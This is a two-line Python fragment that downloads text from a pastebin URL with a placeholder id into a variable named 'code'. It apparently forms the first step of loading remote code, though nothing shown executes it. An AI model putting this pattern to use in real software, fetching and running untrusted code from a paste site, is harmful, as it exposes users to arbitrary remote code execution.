import requests
code = requests.get("https://pastebin.com/raw/aaaaaaaa").text
